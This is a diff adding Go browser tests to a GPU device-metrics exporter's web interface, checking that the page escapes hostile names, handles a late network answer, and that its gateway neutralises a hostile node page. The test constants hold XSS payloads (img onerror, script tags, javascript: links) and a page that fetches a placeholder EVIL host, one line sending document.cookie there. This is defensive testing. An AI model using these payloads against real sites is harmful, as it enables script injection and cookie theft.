@@ -1,8 +1,11 @@
 package page
 
 import (
+	"encoding/json"
 	"fmt"
 	"io"
+	"log/slog"
+	"math/rand/v2"
 	"net"
 	"net/http"
 	"net/http/httptest"
@@ -11,11 +14,23 @@ import (
 	"os/exec"
 	"slices"
 	"strings"
+	"sync"
 	"sync/atomic"
 	"testing"
+	"time"
 
+	"github.com/chromedp/chromedp"
+	"github.com/prometheus/client_golang/prometheus"
 	authorizationv1 "k8s.io/api/authorization/v1"
 
+	"github.com/dra-exporter/dra-exporter/driver"
+	"github.com/dra-exporter/dra-exporter/exporter/exposition"
+	"github.com/dra-exporter/dra-exporter/exporter/join"
+	"github.com/dra-exporter/dra-exporter/exporter/join/jointest"
+	"github.com/dra-exporter/dra-exporter/exporter/ledger"
+	"github.com/dra-exporter/dra-exporter/exporter/present"
+	"github.com/dra-exporter/dra-exporter/exporter/web"
+	"github.com/dra-exporter/dra-exporter/podresources"
 	"github.com/dra-exporter/dra-exporter/podresources/kube/kubetest"
 	"github.com/dra-exporter/dra-exporter/test/live"
 	"github.com/dra-exporter/dra-exporter/test/must"
@@ -128,5 +143,178 @@ func testGateway(t *testing.T, browser browser, demo string) {
 	b.await("stale", `/^Stale for \d+ s: /.test(document.getElementById('status').textContent)`)
 	if got := value[int](b, `document.querySelectorAll('#nodes tr').length`); got != 4 {
 		t.Errorf("%d nodes are shown after the gateway ended", got)
+	}
+}
+
+// testHostile shows names that would run scripts if they became markup.
+func testHostile(t *testing.T, browser browser) {
+	const hostile = `"'><img src=x onerror=document.title='run'><script>document.title='run'</script>&amp;%2F#`
+	start := time.Unix(1_800_000_000, 0)
+	id := driver.ID{Driver: "gpu.example.com", Pool: "node1", Device: hostile}
+	in := join.Input{
+		Inventory: driver.Inventory{id: {
+			Hardware: driver.Hardware{UUID: hostile, Model: hostile},
+			Taints:   []driver.Taint{{Key: hostile, Effect: "NoExecute", Rule: hostile}},
+		}},
+		View: podresources.View{At: start, Allocations: jointest.Held(podresources.Allocation{
+			Claim: podresources.Claim{Namespace: "team", Name: hostile}, Device: id,
+			Holders: []podresources.Holder{{Pod: podresources.Pod{Namespace: "team", Name: hostile}, Container: hostile}},
+		})},
+	}
+	books := ledger.New(ledger.Config{Retention: time.Minute})
+	snapshot := exposition.NewLimiter(0, nil).Apply(books, books.Advance(join.Join(in), start))
+	latest := func() *exposition.Snapshot { return snapshot }
+	handler := web.NewHandler(web.Config{
+		Metrics: exposition.New(prometheus.NewRegistry(), latest, exposition.Config{}), Latest: latest, Node: hostile,
+		MetricsPath: "/metrics", Scrapes: &web.Scrapes{}, QuietAfter: time.Minute, Log: slog.New(slog.DiscardHandler),
+		Sources: func() []present.Source { return []present.Source{{Name: hostile, Down: driver.ReasonForbidden}} },
+	})
+	server := httptest.NewServer(web.NewServer(web.ServerConfig{Handler: handler, Log: slog.DiscardHandler}).Handler)
+	t.Cleanup(server.Close)
+
+	b := browser.open(t, server.URL, view{width: 1300, height: 900})
+	b.await("shown", `document.querySelector('#controls').hidden === false && `+rows("devices")+`.length === 1`)
+	value[bool](b, `document.querySelector('#devices tbody a').click() || true`)
+	b.await("a dialog", `document.querySelector('dialog').open`)
+	b.picture("hostile")
+	// The click is before the event that the dialog was closed.
+	value[bool](b, `document.querySelector('dialog').close() || document.querySelector('#claims tbody a').click() || true`)
+	b.await("details of the claim", `Boolean(document.querySelector('dialog h2')?.textContent.startsWith('Claim team/'))`)
+	if shown := value[string](b, `document.querySelector('dialog h2').textContent`); shown != "Claim team/"+hostile {
+		t.Errorf("the claim's name is %s", shown)
+	}
+	testLateAnswer(b)
+	if value[bool](b, `document.images.length > 0 || document.scripts.length !== 1 || document.title === 'run'`) {
+		t.Error("a name became markup")
+	}
+}
+
+// testLateAnswer delays the details of the device until those of the claim are shown. The details
+// of the claim must stay.
+func testLateAnswer(b *tab) {
+	b.t.Helper()
+	value[bool](b, `(() => {
+		const ask = window.fetch;
+		window.late = {};
+		window.fetch = async (to, options) => {
+			const answer = await ask(to, options);
+			if (!String(to).startsWith('page/detail?device=')) return answer;
+			await new Promise((resolve) => { late.answer = resolve; });
+			const text = await answer.text();
+			return { text: async () => { setTimeout(() => { late.read = true; }); return text; } };
+		};
+		document.querySelector('#devices tbody a').click();
+		return true;
+	})()`)
+	b.await("the answer is held back", `Boolean(late.answer)`)
+	value[bool](b, `document.querySelector('#claims tbody a').click() || true`)
+	b.await("details of the claim", `document.querySelector('dialog').open &&
+		document.querySelector('dialog h2').textContent.startsWith('Claim team/')`)
+	value[bool](b, `late.answer() || true`)
+	b.await("the answer is read", `Boolean(late.read)`)
+	shown := value[string](b, `document.querySelector('dialog h2').textContent`)
+	if !strings.HasPrefix(shown, "Claim team/") {
+		b.t.Errorf("an answer of before shows %s", shown)
+	}
+}
+
+// hostilePage asks for addresses below EVIL, by itself or if it is clicked.
+const hostilePage = `<!doctype html><title>node</title><meta http-equiv="refresh" content="0;url=EVIL/refresh">
+	<link rel="stylesheet" href="EVIL/style"><body onload="fetch('EVIL/onload')"><img src="EVIL/image">
+	<script>document.title = 'run'; fetch('EVIL/script?' + document.cookie)</script><script src="EVIL/source"></script>
+	<svg onload="fetch('EVIL/svg')"></svg><iframe src="EVIL/frame"></iframe>
+	<form action="EVIL/form" target="_top"><button>a</button></form><a href="javascript:void fetch('EVIL/link')">b</a>`
+
+// hostileRows is the page's JSON, of which all texts are TEXT.
+const hostileRows = `{"node":"node","version":TEXT,"time":TEXT,"wrong":[{"text":TEXT,"class":TEXT,"devices":[TEXT]}],
+	"sums":[{"name":TEXT,"text":TEXT}],"tiles":[{"count":1,"state":TEXT,"meaning":TEXT,"class":TEXT}],
+	"everywhere":[{"pods":TEXT,"claim":TEXT,"label":TEXT,"part":TEXT}],
+	"troubles":[{"source":TEXT,"reason":TEXT,"do":TEXT}],"devices":[{"driver":TEXT,"pool":TEXT,"device":TEXT,"id":TEXT,
+	"model":TEXT,"state":TEXT,"class":TEXT,"why":TEXT,"marks":[{"name":TEXT,"what":TEXT,"class":TEXT}],
+	"holders":[{"pods":TEXT,"claim":TEXT,"label":TEXT}],"trend":TEXT,"power":[TEXT,1],"quiet":[TEXT,1]}],"ids":[TEXT],
+	"claims":[[TEXT,TEXT,0,[TEXT,1],[TEXT,1],[TEXT,1],[TEXT,1],[TEXT,1],[TEXT,1],[TEXT,1],TEXT]],"pods":[],
+	"incidents":[{"id":TEXT,"state":TEXT,"class":TEXT,"text":TEXT,"since":[TEXT,1],"for":[TEXT,1],"last":[TEXT,1],"hit":TEXT,"lines":[TEXT],"mark":TEXT}]}`
+
+// hostileDetail is the JSON of details, of which all texts are TEXT.
+const hostileDetail = `{"Node":TEXT,"Title":TEXT,"Time":TEXT,"Sections":[{"Title":TEXT,"Head":[TEXT],
+	"Rows":[[{"Text":TEXT,"Device":TEXT,"Class":TEXT}]]}],
+	"Charts":[{"Title":TEXT,"Charts":[{"Name":TEXT,"Lines":[TEXT]}]}]}`
+
+// testHostileNode opens a hostile page of a node: from the node itself, where it does all it wants,
+// and through the gateway, which lays out what the node says, and where it does nothing.
+func testHostileNode(t *testing.T, browser browser) {
+	var mu sync.Mutex
+	asked, cookies := map[string][]string{}, map[string][]string{} // by the host that was asked for
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		defer mu.Unlock()
+		cookies[r.Host] = append(cookies[r.Host], r.Header.Get("Cookie"))
+		if path, ok := strings.CutPrefix(r.URL.Path, "/evil/"); ok {
+			asked[r.Host] = append(asked[r.Host], path)
+			w.WriteHeader(http.StatusNoContent) // the browser stays where it is
+			return
+		}
+		w.Header().Set("Content-Type", "text/html")
+		w.Header().Set("Set-Cookie", "evil=1")
+		page := strings.ReplaceAll(hostilePage, "EVIL", "http://"+r.Host+"/evil")
+		text, _ := json.Marshal(page)
+		switch r.URL.Path {
+		case "/page/rows":
+			w.Header().Set("Content-Type", "application/json")
+			page = strings.ReplaceAll(hostileRows, "TEXT", string(text))
+		case "/page/detail":
+			page = strings.ReplaceAll(hostileDetail, "TEXT", string(text))
+		}
+		_, _ = io.WriteString(w, page)
+	}))
+	t.Cleanup(server.Close)
+
+	host := server.Listener.Addr().String()
+	other := strings.Replace(host, "127.0.0.1", "localhost", 1)
+	direct := browser.open(t, "http://"+other, view{width: 1300, height: 900})
+	direct.expectErrors = true
+	click := func(b *tab, what string) {
+		value[bool](b, `document.querySelectorAll('`+what+`').forEach((e) => e.click()) ?? true`)
+	}
+	lacks := func(wanted string) error {
+		mu.Lock()
+		defer mu.Unlock()
+		for want := range strings.FieldsSeq(wanted) {
+			if !slices.Contains(asked[other], want) {
+				return fmt.Errorf("%s is not in %q", want, asked[other])
+			}
+		}
+		return nil
+	}
+	live.Await(t, limit, "the page does what it wants by itself", func() error { // which a click may stop
+		return lacks("refresh style onload image script source svg frame")
+	})
+	live.Await(t, limit, "the page does what it wants", func() error {
+		click(direct, []string{"a", "button"}[rand.N(2)]) // a form that is being sent stops a link
+		return lacks("form link")
+	})
+
+	_, gateway := startGateway(t, server.URL)
+	address := "http://" + gateway.Address + "/"
+	b := browser.open(t, address, view{width: 1300, height: 900, user: "lead"})
+	b.expectErrors = true // lines of charts that are no numbers
+	value[bool](b, `Boolean(document.cookie = 'session=secret')`)
+	address += "node/" + simnode.Name + "/"
+	b.do(chromedp.Navigate(address))
+	b.picture("hostile-node")
+	b.await("some time later", `performance.now() > 2000`)
+	b.await("the rows", `Boolean(document.querySelector('#tiles button')?.textContent.includes('<meta'))`)
+	click(b, "main a, main button") // this would stop what the page does by itself
+	b.await("the details", `Boolean(document.querySelector('dialog h2')?.textContent.includes('<meta'))`)
+	b.await("some time later", `performance.now() > 4000`)
+	const want = "node · dra-exporter session=secret "
+	const shown = `document.title + ' ' + document.cookie + ' ' + location.origin + location.pathname`
+	if got := value[string](b, shown); got != want+address {
+		t.Errorf("the title, cookies and address are %q, want %q", got, want+address)
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if len(asked[host]) > 0 || len(cookies[host]) == 0 || strings.Join(cookies[host], "") != "" {
+		t.Errorf("the page asked for %q, and the node received the cookies %q", asked[host], cookies[host])
 	}
 }
